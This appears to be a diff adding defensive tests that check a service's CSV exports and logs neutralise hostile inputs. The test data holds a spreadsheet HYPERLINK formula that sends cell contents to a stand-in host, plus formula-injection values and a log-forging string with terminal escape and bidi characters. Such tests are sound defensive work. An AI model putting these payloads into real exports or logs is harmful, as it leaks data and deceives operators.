@@ -1,0 +1,68 @@
+"""Inputs meant to attack what reads the bridge's output: spreadsheets opening its CSV exports, operators
+reading its logs. (Issue 10's first protections; each test failed before its fix.)"""
+from __future__ import annotations
+
+import csv
+import io
+import logging
+
+import pytest
+
+from bridge import logs
+from bridge.registry.importer import import_subscriptions
+from bridge.spreadsheet import safe_cell
+
+FORMULA = '=HYPERLINK("http://x.example/?"&A2,"open")'
+
+
+@pytest.mark.parametrize(("value", "written"), [
+    (FORMULA, "'" + FORMULA), ("+SUM(1,2)", "'+SUM(1,2)"), ("-2+3", "'-2+3"), ("@cmd", "'@cmd"),
+    ("\tx", "'\tx"), ("\rx", "'\rx"), ("+15551234567", "+15551234567"), ("-18000", "-18000"), ("1.5", "1.5"),
+    ("user-1", "user-1"), ("", ""), (None, None), (True, True), (3, 3),
+])
+def test_a_cell_a_spreadsheet_would_evaluate_is_written_as_text(value, written):
+    assert safe_cell(value) == written
+
+
+def test_the_audience_export_neutralises_formulas(client, tenant, runtime):
+    client.post(f"/v1/apps/{tenant.app_id}/subscriptions", headers=tenant.auth, json=[
+        {"subscription_id": "=1+1", "type": "Email", "identifier": "=hyperlink(\"x\")@x.co", "external_id": FORMULA,
+         "notification_types": 1},
+        {"subscription_id": "s2", "type": "SMS", "identifier": "+15551234567", "external_id": FORMULA,
+         "notification_types": 1}])
+    client.post(f"/v1/apps/{tenant.app_id}/amplitude/cohorts", headers=tenant.cohort_auth, json={
+        "cohort_id": "c1", "cohort_name": "C", "in_cohort": True, "computed_time": "1763856000",
+        "message_id": "m1", "users": [{"user_id": FORMULA}]})
+    runtime.runner.run_pending()
+    response = client.get(f"/v1/apps/{tenant.app_id}/cohorts/c1/devices?format=csv", headers=tenant.auth)
+    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
+    assert [(r["subscription_id"], r["external_id"], r["identifier"]) for r in rows] == [
+        ("'=1+1", "'" + FORMULA, "'=hyperlink(\"x\")@x.co"), ("s2", "'" + FORMULA, "+15551234567")]
+    json_page = client.get(f"/v1/apps/{tenant.app_id}/cohorts/c1/devices", headers=tenant.auth).json
+    assert json_page["items"][0]["external_id"] == FORMULA  # JSON carries the value as it is
+
+
+def test_the_import_errors_file_neutralises_formulas(runtime, tenant, tmp_path):
+    path = tmp_path / "export.csv"
+    path.write_text("id,identifier,device_type,external_user_id\n"
+                    f'"{FORMULA.replace(chr(34), chr(34) * 2)}",tok,99,@evil\n')
+    errors = io.StringIO()
+    with runtime.session() as session:
+        summary = import_subscriptions(session, tenant.app_id, path, errors_to=errors)
+    assert summary.rejected == 1
+    rows = list(csv.reader(io.StringIO(errors.getvalue())))
+    assert rows[1][2:] == ["'" + FORMULA, "tok", "99", "'@evil"]
+
+
+def test_a_value_cannot_forge_a_log_line_or_rewrite_the_terminal(caplog):
+    stream = io.StringIO()
+    handler = logging.StreamHandler(stream)
+    handler.setFormatter(logs.SafeFormatter("%(levelname)s %(message)s"))
+    logger = logging.getLogger("bridge.test_hostile")
+    logger.addHandler(handler)
+    try:
+        logger.warning("cohort %s failed", "c1\n2026-11-29 INFO bridge.auth [req=admin] token OK\x1b[2J\u202e\x85")
+    finally:
+        logger.removeHandler(handler)
+    assert stream.getvalue() == ("WARNING cohort c1\\x0a2026-11-29 INFO bridge.auth [req=admin] token OK"
+                                 "\\x1b[2J\\u202e\\x85 failed\n")
